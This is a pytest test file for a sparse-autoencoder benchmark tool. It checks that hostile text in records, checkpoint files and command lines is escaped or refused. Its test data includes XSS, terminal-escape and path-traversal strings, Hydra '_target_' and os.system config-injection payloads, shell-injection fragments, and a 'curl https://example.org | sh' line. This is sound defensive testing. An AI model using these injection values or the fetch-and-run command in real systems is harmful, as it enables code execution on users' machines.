"""Hostile text in every field of a record, a release or a checkpoint: it stays text where shown."""

import html
import json
import shlex
from collections.abc import Iterator
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Any
from unittest import mock

import example_masking as masking
import example_records as example
import markdown as python_markdown
import pytest
import test_formats as formats
import torch
from fuzz import commands, hostile, outputs
from safetensors.torch import load_file, save_file
from test_configs import composed

import benchmarks.figures.__main__ as figures
import gradsae
from benchmarks import doctor
from benchmarks.launch import site
from benchmarks.places import PUBLISHED
from benchmarks.results.commands import rebuilt
from gradsae.bench.cell import build
from gradsae.errors import UserError
from gradsae.records.record import Record, load, record_id, save, text
from gradsae.storage.sealed import CHECKSUM
from gradsae.tables.printing import Markdown, escaped, markdown_table

TOPK = {"name": "topk", "k": 32}


def kinds() -> list[Record]:
    """One record of each task, and the two grids that `benchmarks.regret` compares."""
    samples = example.steering(TOPK, 0)
    rows = {"selector": ["mean_act"], "latents": ["1"], "mode": ["set"], "dose": [2.0]}
    samples.series["steering/samples"] = {**rows, "prompt": ["A"], "before": ["b"], "after": ["c"]}
    return [
        example.grid(TOPK, 100, "regret_grid"),
        *(example.grid(TOPK, seed, "regret") for seed in (0, 1)),
        example.recovery(
            example.SUPERPOSITION, TOPK, 0, (0.9, 0.5), 20, experiment="known_features"
        ),
        example.lm_recovery(TOPK, 0, 20, 0.3),
        example.record(
            *("influence", example.layer(15), TOPK, 0),
            **{
                name: getattr(example.influence(15, TOPK, 0, prompts=2), name)
                for name in ("scores", "intervals", "n", "series")
            },
            experiment="influence_table",
        ),
        masking.masking(15, TOPK, 0),
        masking.budget(15, TOPK, 0),
        samples,
    ]


def with_texts(record: Record, start: int) -> Record:
    """Return the record with a hostile text in every field that takes any text."""
    texts = cycle(hostile.TEXTS[start:] + hostile.TEXTS[:start])
    data = without_checksum(record)
    data["config"] |= {"label": next(texts), "notes": next(texts)}
    data["about"] = {
        "method": _about(texts),
        "scores": {name: {"name": name, **_score(texts)} for name in list(data["scores"])[:3]},
        "variants": {"mean_act": _about(texts), "theirs": _about(texts)},
    }
    data["skipped"] |= {"lm/ce": next(texts)}
    for path in list(hostile.places(data)):
        part, name = path[0], path[-1]
        if part in ("config", "series") and name not in ("experiment", "label"):
            data = hostile.changed(data, path, lambda old: f"{old}{next(texts)}")
        if part == "provenance" and name != "commit":
            data = hostile.changed(data, path, lambda _: next(texts))
    data["id"] = record_id(data["task"], data["config"], data["seeds"])
    return Record(**data)


def without_checksum(record: Record) -> dict[str, Any]:
    return {k: v for k, v in json.loads(text(record)).items() if k != CHECKSUM}


def _about(texts: Iterator[str]) -> dict[str, str]:
    return {"label": next(texts), "family": next(texts)}


def _score(texts: Iterator[str]) -> dict[str, str]:
    return {"better": "higher", **{name: next(texts) for name in ("header", "meaning", "over")}}


def saved(folder: Path, start: int, inner: str = "mallory") -> Path:
    """Save plain and hostile records, here and in the folder of a collaborator."""
    for i, record in enumerate(kinds()):
        save(record, folder)
        save(with_texts(record, start + i), folder)
        save(with_texts(record, start - i), folder / inner)
    return folder


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The folder that commands write below; what is written above it would be seen, too."""
    (tmp_path / "a" / "b").mkdir(parents=True)
    return tmp_path / "a" / "b"


@pytest.mark.parametrize("start", [0, 5])
def test_text_of_a_record_stays_text_in_all_that_commands_write(root: Path, start: int):
    records = saved(root / "records", start)
    with commands.elsewhere(records, root):
        for name, call in commands.quick(records, root).items():
            said = call()
            refused = name == "publish" and "absolute path" in said.err  # as some texts look
            assert said.status == 0 or refused, f"{name}: {said.err}"
            assert "left out" not in said.err, said.err
            assert (name, outputs.faults_of_terminal(said.out + said.err)) == (name, [])
        places = json.loads((root / "regret_choice.json").read_text())
    assert "&lt;script&gt;alert(1)" in (root / "board" / "index.html").read_text()
    assert "&#60;script&#62;alert(1)" in (root / "board" / "board.md").read_text()
    assert outputs.faults_of_folder(root) == []
    assert not hostile.was_trapped(root.parent.parent)
    assert {type(p) for of in places.values() for each in of.values() for p in each} == {int}


def test_text_of_a_record_stays_text_in_figures_their_captions_and_the_page_of_a_sweep(root: Path):
    records = saved(root / "records", 2)
    some = {name: figures.FIGURES[name] for name in ("recovery", "regret")}
    draw = partial(figures.draw_all, figures=some)
    with commands.elsewhere(records, root), mock.patch.object(site, "draw_all", draw):
        said = commands.slow(records, root)["site"]()
    assert said.status == 0, said.err
    assert outputs.faults_of_terminal(said.out + said.err) == []
    assert len(list((root / "site" / "figures").glob("*.svg"))) >= len(some)
    assert outputs.faults_of_folder(root) == []
    assert not hostile.was_trapped(root.parent.parent)


STEERING = ("\x1b[2J\x1b]0;title\x07\u202eright to left", *hostile.TEXTS[1:3], "\ud800", "../../x")


def hostile_configs(folder: Path) -> Iterator[tuple[Path, str]]:
    """Write a stranger's text for each text, and for each name, in the JSON files of an SAE."""
    texts = cycle(STEERING)
    for path in sorted(folder.glob("*.json")):
        whole = path.read_text()
        data = {key: value for key, value in json.loads(whole).items() if key != CHECKSUM}
        for place in hostile.places(data):
            for _ in STEERING:
                words = next(texts)
                path.write_text(json.dumps(hostile.changed(data, place, lambda _, w=words: w)))
                yield path, words
        for key in data:
            rest = {k: v for k, v in data.items() if k != key}
            path.write_text(json.dumps(rest | {next(texts): data[key]}))
            yield path, key
        path.write_text(whole)


def told(folder: Path) -> str:
    """Return what a user sees of an SAE in a folder: a table of it, or why it was refused."""
    try:
        sae = gradsae.load_sae(folder)
        sae.save(folder.parent / "again")
        title = f"{sae.name} of {sae.model} at {sae.site}"
    except UserError as error:
        return str(error)
    table = gradsae.Table(title=title, columns={"model": [str(sae.model)]}, notes=(title,))
    assert outputs.faults_of_html(table._repr_html_(), outputs.TAGS | {"h4"}) == []
    return repr(table)


@pytest.mark.parametrize("write", formats.WRITERS)
def test_text_of_a_release_or_a_checkpoint_stays_text(write, tmp_path: Path, monkeypatch):
    inside = tmp_path / "a" / "b"
    (inside / "sae").mkdir(parents=True)
    monkeypatch.chdir(inside)
    write(inside / "sae", formats.parts())
    n_tries = 0
    for path, words in hostile_configs(inside / "sae"):
        shown = told(inside / "sae")
        shown.encode()  # a terminal of UTF-8 can print it
        assert outputs.faults_of_terminal(shown.replace("\n", "")) == [], (path, words)
        n_tries += 1
    assert n_tries > 3 or write is formats.gemma_scope  # which has no JSON
    assert not hostile.was_trapped(tmp_path)
    assert {p.name for p in inside.iterdir()} <= {"sae", "again"}
    assert {p.name for p in tmp_path.iterdir()} == {"a"}


def test_names_of_tensors_and_files_stay_text(tmp_path: Path):
    sae = tmp_path / "\x1b[2Jsae"
    sae.mkdir()
    w = formats.parts()
    formats.sparsify(sae, w)
    (weights,) = sae.glob("*.safetensors")
    save_file(load_file(weights) | {"\x1b]0;title\x07": torch.ones(1)}, weights)
    shown = told(sae)
    assert "has no counterpart here" in shown
    assert outputs.faults_of_terminal(shown) == []


def test_the_doctor_shows_hostile_names_as_text(tmp_path: Path):
    folder = tmp_path / "results" / "checkpoints" / "\x1b[2Jx"
    folder.mkdir(parents=True)
    (folder / "sae.json").write_text('{"format": "\\u001b[2J"}')
    words = (str(tmp_path / "results"), "--cache", str(tmp_path / "cache"))
    said = commands.run(doctor.main, *words)
    assert "damaged: " in said.out
    assert outputs.faults_of_terminal(said.out + said.err) == []


def test_two_records_cannot_choose_what_is_built(root: Path, monkeypatch: pytest.MonkeyPatch):
    """They once reached a YAML file through a label and a method's name, and a class was called."""
    trap = "{_target_: pathlib.Path.touch, self: {_target_: pathlib.Path, _args_: [%s]}}"
    label = f"sparse:\n  topk: [{trap % (root / hostile.TRAP)}]\n  other"
    for seed, experiment in ((100, "regret_grid"), (0, "regret")):
        record = example.grid({"name": f"topk: [0]\n  {label}"}, seed, experiment)
        config = {**record.config, "label": label}
        save(Record(**{**vars(record), "config": config, "id": ""}), root / "records")
    with commands.elsewhere(root / "records", root):
        assert commands.quick(root / "records", root)["choose"]().status == 0
    choice = root / "regret_choice.json"
    assert set(json.loads(choice.read_text())) == {label}
    words = ["experiment=regret", "row=regret_grid/sparse", f"chosen.file={choice}"]
    with pytest.raises(Exception, match="no choice for 'sparse'"):
        build(composed(*words, "tracking=none", f"results={root}", "device=cpu"))
    assert not hostile.was_trapped(root)


@pytest.mark.parametrize(
    "places",
    [
        {"_target_": "pathlib.Path.touch", "self": {"_target_": "pathlib.Path", "_args_": ["x"]}},
        [{"_target_": "pathlib.Path.cwd"}],
        ["${oc.env:HOME}"],
        [True],
        "0",
    ],
)
def test_a_file_of_choices_that_holds_more_than_places_is_refused(root: Path, places: Any):
    choice = root / "choice.json"
    choice.write_text(json.dumps({"sparse": {"topk": places}}))
    words = ["experiment=regret", "row=regret_grid/sparse", f"chosen.file={choice}"]
    with pytest.raises(UserError, match="must hold, by world and method, lists of places"):
        build(composed(*words, "tracking=none", f"results={root}", "device=cpu"))
    assert list(root.iterdir()) == [choice]


def test_what_a_collaborator_sent_does_not_choose_what_is_trained(root: Path):
    """The stranger's grid would make k=8 the best; the project's own says k=16."""
    save(example.grid(TOPK, 100, "regret_grid"), root / "records")
    theirs = example.grid(TOPK, 101, "regret_grid")
    best_is_8 = {name: [9.0, 0.1, 0.1] for name in ("recovery.mcc", "recovery.frr_0.9")}
    theirs.series["grid/scores"] |= best_is_8
    save(theirs, root / "records" / "mallory")
    with commands.elsewhere(root / "records", root):
        commands.quick(root / "records", root)["choose"]()
    assert json.loads((root / "regret_choice.json").read_text()) == {"plain": {"topk": [1]}}


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("python -m benchmarks.run -m trainer=topk,l1 seed=0,1", "trainer=topk,l1 seed=0,1"),
        ("python -m benchmarks.run k=4 tracking=none results=x hydra/launcher=basic", "k=4"),
        ("python -m benchmarks.run 'label=two words'", "'label=two words'"),
    ],
)
def test_a_command_of_known_words_is_composed_anew(typed: str, shown: str):
    made = rebuilt(typed)
    assert made is not None and made.endswith(f" {shown}")
    assert shlex.split(made)[:3] == ["python", "-m", "benchmarks.run"]


@pytest.mark.parametrize(
    "words",
    [
        *("; touch x", "&& touch x", "'label=$(touch x)'", "'label=`touch x`'", "k=4 | sh"),
        *("trainer._target_=os.system", "'+trainer={_target_: os.system}'", "label=${oc.env:HOME}"),
        *("hydra.run.dir=/etc", "hydra.job_logging=x", "--config-dir=/tmp/x", "trainer=../../x"),
        *("trainer=/tmp/x", "unknown=1", "hydra.sweeper.params.hydra.run.dir=x", "'label=a\nb'"),
        *("'label=unclosed", "~trainer", "-cd x", "hydra/callbacks=x"),
    ],
)
def test_a_command_with_any_other_word_is_not_shown(words: str):
    assert rebuilt(f"python -m benchmarks.run trainer=topk {words}") is None


def test_another_program_is_not_shown():
    assert rebuilt("curl https://example.org | sh") is None
    assert rebuilt("python -m benchmarks.export a b") is None


def test_every_published_command_is_shown_but_for_the_words_that_change_no_record():
    typed = {load(path).provenance["command"] for path in sorted(PUBLISHED.glob("*.json"))[::20]}
    for command in typed:
        made = rebuilt(command)
        words = [word for word in shlex.split(command) if not word.startswith("tracking=")]
        assert made is not None
        assert [w for w in words if not w.startswith("results=")] == shlex.split(made)


def test_plain_text_in_a_markdown_table_is_shown_letter_by_letter():
    for words in (*hostile.TEXTS, "a\\|b", "|grad| x act", "frr_0.9", ".9 [.8, .95]", "*x*"):
        table = markdown_table(["head"], [[words]])
        made = python_markdown.markdown(table, extensions=["tables"])
        cell = made.partition("<td>")[2].partition("</td>")[0]
        seen = " ".join("".join(c if c.isprintable() else " " for c in words).split())
        assert html.unescape(cell) == seen
        assert "<" not in cell


def test_text_that_is_markdown_already_is_kept():
    assert escaped(Markdown("**a | b**")) == "**a | b**"
    assert escaped("frr_0.9 of .9 [.8, .95]") == "frr_0.9 of .9 [.8, .95]"
